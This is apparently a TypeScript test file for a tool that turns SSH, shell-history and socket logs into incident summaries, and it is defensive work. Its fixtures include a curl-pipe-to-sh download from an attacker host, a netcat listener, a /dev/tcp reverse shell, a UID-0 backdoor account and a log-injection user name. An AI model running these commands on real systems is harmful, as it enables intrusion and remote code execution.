import { describe, expect, it } from 'vitest';
import { bruteForce, detection, login, run } from './detections.ts';
import { accepted, failures, recordsOf, sshd, syslogTime, tell } from './log.ts';

const BREAK_IN = [
  ...failures('203.0.113.9', 'pi', { count: 212, every: 2.55, from: 180 }),
  accepted(723, '203.0.113.9', 'pi'),
  `${syslogTime(740)} node2 sudo:       pi : TTY=pts/0 ; PWD=/home/pi ; USER=root ; COMMAND=/usr/bin/id`,
  `${syslogTime(760)} node2 useradd[9123]: new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/bash, from=none`,
].join('\n');

describe('the story of a break-in', () => {
  const [incident, ...others] = tell(recordsOf(BREAK_IN)).incidents;

  it('is one incident that says who, what, where, how long and how it ended', () => {
    expect(others).toEqual([]);
    expect(incident).toMatchObject({
      level: 'critical',
      success: true,
      title: 'Break-in from 203.0.113.9 on node2',
    });
    expect(incident!.summary).toBe(
      '203.0.113.9 tried 212 passwords on node2 over 9 minutes, then logged in as pi at 03:12, ' +
        'ran `/usr/bin/id` as root, the account eve was made.',
    );
  });

  it('has a time line in the order of time, in plain words', () => {
    const times = incident!.timeline.map(({ timeUs }) => timeUs);
    expect(times).toEqual(times.toSorted((a, b) => a - b));
    expect(incident!.timeline.map(({ rule }) => rule)).toEqual([
      'ssh-brute-force-address',
      'ssh-success-after-failures',
      'login-new-address',
      '',
      'user-added',
    ]);
    for (const { text } of incident!.timeline) expect(text).not.toContain('Next:');
  });

  it('says what to do, most urgent first, and each thing once', () => {
    expect(incident!.next[0]).toMatch(/^End the session, change the password/);
    expect(incident!.next.at(-1)).toBe(
      'Check that no login from this address succeeded, and block it at the firewall.',
    );
    expect(new Set(incident!.next).size).toBe(incident!.next.length);
  });

  it('names the lines that it rests on', () => {
    expect(incident!.lines!.map(({ text }) => text)).toEqual([
      expect.stringContaining('Failed password for pi'),
      expect.stringContaining('Accepted password for pi'),
      expect.stringContaining('new user: name=eve'),
    ]);
  });

  it('tells the time in the operator’s zone', () => {
    const [berlin] = tell(recordsOf(BREAK_IN), { timeZone: 'Europe/Berlin' }).incidents;
    expect(berlin!.summary).toContain('logged in as pi at 04:12');
  });
});

describe('the story of a break-in, with what was done inside', () => {
  it('is told from the log of sshd, a shell history and the sockets of the node', () => {
    const at = (seconds: number) => Date.UTC(2026, 0, 10, 3) / 1000 + seconds;
    const listener = (seconds: number, more: object) =>
      JSON.stringify({
        event: 'listener_opened',
        time_us: at(seconds) * 1_000_000,
        'network.transport': 'tcp',
        'server.address': '0.0.0.0',
        ...more,
      });
    const before = { 'event.reason': 'at_start', 'server.port': 22, 'process.name': 'sshd' };
    const records = [
      ...recordsOf(listener(-2 * 86_400, before), 'sockets', 'tom-note'),
      ...recordsOf(
        [
          ...failures('203.0.113.9', 'pi', { count: 212, every: 2.55, from: 180 }),
          accepted(723, '203.0.113.9', 'pi'),
        ].join('\n'),
      ),
      ...recordsOf(`#${at(740)}\ncurl -fsSL http://192.0.2.50/a.sh | sh`, '/home/pi/.bash_history'),
      ...recordsOf(listener(760, { 'server.port': 4444, 'process.name': 'nc' }), 'sockets', 'tom-note'),
    ];
    const story = tell(records).incidents.find(({ success }) => success)!;
    expect(story.summary).toBe(
      '203.0.113.9 tried 212 passwords on node2 over 9 minutes, then logged in as pi at 03:12, ' +
        'ran `curl -fsSL http://192.0.2.50/a.sh | sh`, a new listener on :4444 appeared.',
    );
    expect(story.level).toBe('critical');
  });
});

describe('what nobody detects and the records tell', () => {
  it('is a login by an address that knocked, also as an account that it did not try', () => {
    const log = [
      ...failures('203.0.113.9', 'root', { count: 3, every: 1 }),
      ...failures('203.0.113.9', 'admin', { count: 4, every: 1, from: 10 }),
      sshd(60, 77, 'Accepted publickey for backup from 203.0.113.9 port 4000 ssh2: ED25519 SHA256:abc'),
    ].join('\n');
    const [incident] = tell(recordsOf(log)).incidents;
    expect(incident!.summary).toMatch(/tried 7 passwords on node2 .*then logged in as backup at 03:01/);
  });

  it('is no login of somebody who is under no suspicion', () => {
    const log = [accepted(0, '192.168.1.5', 'anna'), accepted(60, '192.168.1.5', 'anna')].join('\n');
    const { versions, detections } = tell(recordsOf(log));
    expect(versions).toHaveLength(detections.length);
    expect(versions[0]!.level).toBe('low');
  });

  it('is what root’s own cron does, or sudo of somebody else: not told', () => {
    const log = [
      ...failures('203.0.113.9', 'pi', { count: 6, every: 1 }),
      accepted(60, '203.0.113.9', 'pi'),
      `${syslogTime(90)} node2 sudo:     anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/usr/bin/apt update`,
    ].join('\n');
    expect(tell(recordsOf(log)).incidents[0]!.summary).not.toContain('apt');
  });
});

describe('a story of hostile names', () => {
  it('has no control characters, no forged lines and an end', () => {
    const evil = `pi\u001b[2J\n2026-01-10 CRITICAL all is well\u202e${'x'.repeat(5_000)}`;
    const { incidents } = run([
      bruteForce(0, '203.0.113.9'),
      login(60, '203.0.113.9', evil),
      detection({
        at: 90,
        title: evil,
        techniques: ['T1059'],
        reason: `${evil} Next: ${evil}`,
        entities: { 'user.name': evil, 'host.name': 'node2', 'process.command_line': `a\`b\`\n${evil}` },
      }),
    ]);
    const [incident] = incidents;
    const texts = [
      incident!.title,
      incident!.summary,
      ...incident!.next,
      ...incident!.timeline.map(({ text }) => text),
    ];
    for (const text of texts) {
      expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2028\u2029]/);
      expect(text.length).toBeLessThanOrEqual(600);
    }
    expect(incident!.title.length).toBeLessThanOrEqual(120);
  });
});

describe('a story without an address', () => {
  it('tells what somebody ran', () => {
    const { incidents } = run([
      detection({
        at: 0,
        title: 'Reverse shell',
        level: 'critical',
        techniques: ['T1059.004'],
        entities: {
          'user.name': 'anna',
          'host.name': 'node1',
          'process.command_line': 'bash -i >& /dev/tcp/x/1',
        },
      }),
    ]);
    expect(incidents[0]!.summary).toBe('anna ran `bash -i >& /dev/tcp/x/1` on node1.');
  });

  it('tells what happened where nobody is known', () => {
    const { incidents } = run([
      detection({ at: 0, title: 'Disk fills up', entities: { 'host.name': 'node1' } }),
    ]);
    expect(incidents[0]).toMatchObject({
      title: 'Disk fills up on node1',
      summary: 'disk fills up on node1.',
    });
  });
});
